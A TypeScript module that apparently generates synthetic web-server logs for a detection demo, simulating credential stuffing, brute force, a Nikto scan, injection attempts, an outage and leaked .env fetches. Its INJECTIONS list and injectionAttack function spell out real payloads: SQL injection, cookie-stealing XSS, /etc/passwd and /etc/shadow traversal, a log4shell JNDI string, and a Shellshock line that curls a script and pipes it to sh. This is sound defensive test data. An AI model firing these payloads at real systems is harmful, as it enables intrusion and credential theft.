import { MINUTE, SECOND } from './clock.js';
import { TimeRange, type AccessLog, type DemoContext } from './context.js';
import type { PlannedAttack } from './attacks.js';
import type { Random } from './random.js';
import { BROWSER_AGENTS, DESKTOP_AGENTS, SITE, jobId, pageBytes } from './site.js';
import { SshConnection } from './ssh.js';
import { niktoPaths } from './nikto.js';

/** The web attacks of the demo month. Each returns its manifest entries. */

export const WEB_ATTACKERS = {
  loginBruteForce: '2001:db8:4a7f:1c::23',
  nikto: '152.32.180.41',
  injection: '103.251.167.20',
  sensitivePath: '147.182.130.93',
  ioc: '5.188.87.51',
} as const;

export const NIKTO_AGENT = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)';
export const SQLMAP_AGENT = 'sqlmap/1.7.2#stable (https://sqlmap.org)';
/** First octets of the credential-stuffing botnet (disjoint from every other group of addresses). */
const STUFFING_OCTETS = [31, 62, 101, 114, 116, 138, 154, 170, 177, 181, 186, 190, 197, 200, 201, 212];

type Write = (ts: number, method: string, path: string, status: number, bytes: number, agent: string) => void;

function writer(log: AccessLog, ip: string, range: TimeRange, referer = '-', protocol = 'HTTP/1.1'): Write {
  return (ts, method, path, status, bytes, agent) => {
    range.hit(log.request(ts, ip, method, path, status, bytes, referer, agent, protocol));
  };
}

/** 70 addresses from many /16s, 2–5 `POST /login` each, inside the Thursday login peak; 2 succeed. */
export function credentialStuffing(ctx: DemoContext, day: number, random: Random): PlannedAttack[] {
  const range = new TimeRange();
  const windowStart = ctx.calendar.at(day, 9, 15);
  const windowEnd = ctx.calendar.at(day, 9, 55);
  const networks = new Set<string>();
  const ips: string[] = [];
  while (ips.length < 70) {
    const network = `${random.pick(STUFFING_OCTETS)}.${random.int(0, 255)}`;
    if (networks.has(network)) continue;
    networks.add(network);
    ips.push(`${network}.${random.int(0, 255)}.${random.int(1, 254)}`);
  }
  const winners = new Set(random.sample(ips, 2));
  const hosts = new Set<string>();
  for (const ip of ips) {
    const host = random.chance(0.5) ? 'web1' : 'web2';
    hosts.add(host);
    const write = writer(ctx.hosts[host].access, ip, range, `${SITE}/login`);
    const agent = random.pick(BROWSER_AGENTS);
    const attempts = random.int(2, 5);
    let t = random.between(windowStart, windowEnd - attempts * 90 * SECOND);
    for (let i = 0; i < attempts; i++) {
      const success = winners.has(ip) && i === attempts - 1;
      write(t, 'POST', '/login', success ? 302 : 401, success ? 0 : pageBytes(random, 'loginFailed'), agent);
      if (success) {
        t += random.int(1000, 3000);
        write(t, 'GET', '/dashboard', 200, pageBytes(random, 'dashboard'), agent);
      }
      t += random.int(20, 90) * SECOND;
    }
  }
  return [
    {
      id: 'web-credential-stuffing',
      description:
        'Credential stuffing hidden in the Thursday login peak: 70 addresses from many /16s, 2–5 POST /login each (no GET of the form), 2 of the attempts succeed',
      rules: ['web-credential-stuffing'],
      hosts: [...hosts].sort(),
      sourceIps: ips,
      range,
    },
  ];
}

/** ~180 failed `POST /login` from one IPv6 address in 15 minutes; the last one gets in. */
export function webLoginBruteForce(ctx: DemoContext, day: number, random: Random): PlannedAttack[] {
  const ip = WEB_ATTACKERS.loginBruteForce;
  const range = new TimeRange();
  const write = writer(ctx.hosts.web2.access, ip, range, `${SITE}/login`);
  const agent = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
  let t = ctx.calendar.at(day, 10, 30, 12);
  write(t, 'GET', '/login', 200, pageBytes(random, 'login'), agent);
  for (let i = 0; i < 180; i++) {
    t += random.int(3000, 6500);
    write(t, 'POST', '/login', 401, pageBytes(random, 'loginFailed'), agent);
  }
  t += random.int(3000, 6500);
  write(t, 'POST', '/login', 302, 0, agent);
  t += random.int(1000, 3000);
  write(t, 'GET', '/dashboard', 200, pageBytes(random, 'dashboard'), agent);
  const common = { hosts: ['web2'], sourceIps: [ip], range };
  return [
    {
      id: 'web-login-brute-force',
      description:
        'Web login brute force on web2: ~180 POST /login answered 401 from one IPv6 address in 15 minutes',
      rules: ['web-login-brute-force'],
      ...common,
    },
    {
      id: 'web-login-compromise',
      description:
        'The web login brute force on web2 succeeds: POST /login 302 and GET /dashboard 200 after ~180 failures',
      rules: ['web-success-after-failures'],
      ...common,
    },
  ];
}

/** Nikto: ~900 distinct paths in 12 minutes, mostly 404, with its own user agent. */
export function niktoScan(ctx: DemoContext, day: number, random: Random): PlannedAttack[] {
  const ip = WEB_ATTACKERS.nikto;
  const range = new TimeRange();
  const write = writer(ctx.hosts.web1.access, ip, range);
  let t = ctx.calendar.at(day, 13, 5, 40);
  let test = 0;
  for (const { method, path, status, bytes } of niktoPaths(random)) {
    test += random.int(1, 9);
    const agent = NIKTO_AGENT.replace('000003', String(test).padStart(6, '0'));
    write(t, method, path, status, bytes, agent);
    t += random.int(300, 1300);
  }
  const common = { hosts: ['web1'], sourceIps: [ip], range };
  return [
    {
      id: 'web-nikto-scan',
      description: 'Nikto scan of web1: ~900 distinct paths in 12 minutes, mostly 404, some 403, a few 200',
      rules: ['web-404-scan'],
      ...common,
    },
    {
      id: 'web-nikto-scanner-ua',
      description: 'The Nikto scan of web1 announces itself in its user agent',
      rules: ['web-scanner-ua'],
      ...common,
    },
  ];
}

const INJECTIONS = [
  '/jobs?q=nurse%27%20OR%201%3D1--',
  '/jobs?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--',
  '/jobs?q=nurse%27%20AND%20sleep(5)--%20-',
  '/jobs?q=nurse%27%29%20AND%205731%3D5731%20AND%20%28%27Xqzb%27%3D%27Xqzb',
  '/jobs?q=nurse%22%20OR%20%22%22%3D%22',
  '/jobs?q=nurse%27%20ORDER%20BY%2010--%20-',
  '/jobs?q=nurse%27%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--',
  '/jobs?q=%27%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,version()))--',
  '/jobs?q=nurse%27%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20-',
  '/jobs?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/jobs?q=%22%3E%3Csvg/onload%3Dalert(document.cookie)%3E',
  '/jobs?q=nurse;cat%20/etc/passwd',
  '/jobs?q=nurse%7Cid',
  '/static/..%2F..%2F..%2Fetc%2Fpasswd',
  '/static/..%2F..%2F..%2F..%2Fetc%2Fshadow',
];

/** sqlmap and friends against the search: SQL injection, XSS, traversal, command injection, log4shell, Shellshock. */
export function injectionAttack(ctx: DemoContext, day: number, random: Random): PlannedAttack[] {
  const ip = WEB_ATTACKERS.injection;
  const range = new TimeRange();
  const scannerRange = new TimeRange();
  const log = ctx.hosts.web1.access;
  const write = writer(log, ip, range);
  const start = ctx.calendar.at(day, 10, 20, 5);
  const gap = (30 * MINUTE) / 41;
  let t = start;
  for (let i = 0; i < 38; i++) {
    const path = i < INJECTIONS.length ? (INJECTIONS[i] ?? '/') : random.pick(INJECTIONS);
    const status = path.startsWith('/static/') ? 404 : 200;
    const bytes = status === 404 ? pageBytes(random, 'notFound') : pageBytes(random, 'search');
    range.hit(
      scannerRange.hit(log.request(t, ip, 'GET', path, status, bytes, '-', SQLMAP_AGENT, 'HTTP/1.1')),
    );
    t += Math.round(random.between(gap * 0.5, gap * 1.5));
  }
  const jndi = `\${jndi:ldap://${ip}:1389/Exploit}`;
  write(t, 'GET', '/', 200, pageBytes(random, 'home'), jndi);
  t += random.int(20, 60) * SECOND;
  write(t, 'GET', '/login', 200, pageBytes(random, 'login'), jndi);
  t += random.int(20, 60) * SECOND;
  write(
    t,
    'GET',
    '/cgi-bin/status',
    404,
    pageBytes(random, 'notFound'),
    `() { :; }; /bin/bash -c 'curl -s http://${ip}/s.sh | sh'`,
  );
  return [
    {
      id: 'web-injection',
      description:
        'Injection attempts on web1 during the Thursday peak: SQL injection, XSS, path traversal and command injection in the search, log4shell and Shellshock in the user agent',
      rules: ['web-injection'],
      hosts: ['web1'],
      sourceIps: [ip],
      range,
    },
    {
      id: 'web-injection-scanner-ua',
      description: 'The injection attempts on web1 come with the sqlmap user agent',
      rules: ['web-scanner-ua'],
      hosts: ['web1'],
      sourceIps: [ip],
      range: scannerRange,
    },
  ];
}

/** The app behind nginx on web2 is down for 25 minutes: requests keep coming, most get 502/503. */
export function outage(ctx: DemoContext, day: number): PlannedAttack[] {
  const range = new TimeRange();
  ctx.hosts.web2.access.outages.push({
    start: ctx.calendar.at(day, 10, 40),
    end: ctx.calendar.at(day, 11, 5),
    range,
    requests: 0,
  });
  return [
    {
      id: 'http-5xx-outage',
      description:
        'Outage of the application on web2 from 10:40 to 11:05 local time: most requests, members included, answered 502 or 503',
      rules: ['http-5xx-spike'],
      hosts: ['web2'],
      sourceIps: [],
      range,
    },
  ];
}

/** A leaked `.env` and `.git/config` fetched successfully. */
export function sensitivePath(ctx: DemoContext, day: number, random: Random): PlannedAttack[] {
  const ip = WEB_ATTACKERS.sensitivePath;
  const range = new TimeRange();
  const write = writer(ctx.hosts.web1.access, ip, range);
  const agent =
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
  let t = ctx.calendar.at(day, 15, 20, 18);
  const requests = [
    ['/.env', 200, 1342],
    ['/.env.production', 404, pageBytes(random, 'notFound')],
    ['/.git/config', 200, 312],
    ['/.git/HEAD', 200, 23],
  ] as const;
  for (const [path, status, bytes] of requests) {
    write(t, 'GET', path, status, bytes, agent);
    t += random.int(1, 9) * SECOND;
  }
  return [
    {
      id: 'web-sensitive-path',
      description: 'web1 serves its .env (200) and .git/config (200) to one address: leaked configuration',
      rules: ['web-sensitive-path'],
      hosts: ['web1'],
      sourceIps: [ip],
      range,
    },
  ];
}

/** An address on the IoC list browses a little and knocks on SSH once. */
export function iocVisit(ctx: DemoContext, day: number, random: Random): PlannedAttack[] {
  const ip = WEB_ATTACKERS.ioc;
  const range = new TimeRange();
  const agent = random.pick(DESKTOP_AGENTS);
  let t = ctx.calendar.at(day, 11, 0, 51);
  const pages = [
    ['/', pageBytes(random, 'home')],
    ['/jobs', pageBytes(random, 'jobs')],
    [`/jobs/${jobId(random)}`, pageBytes(random, 'job')],
    [`/jobs/${jobId(random)}`, pageBytes(random, 'job')],
    ['/about', pageBytes(random, 'about')],
  ] as const;
  let referer = '-';
  for (const [path, bytes] of pages) {
    range.hit(ctx.hosts.web1.access.request(t, ip, 'GET', path, 200, bytes, referer, agent));
    referer = `${SITE}${path}`;
    t += random.int(5, 40) * SECOND;
  }
  new SshConnection(ctx.hosts.web1.auth, random, ip, t + random.int(60, 180) * SECOND, range).closedPreauth();
  return [
    {
      id: 'ioc-match',
      description: 'An address from ioc/bad-ips.txt browses web1 and opens one SSH connection to it',
      rules: ['ioc-match'],
      hosts: ['web1'],
      sourceIps: [ip],
      range,
    },
  ];
}
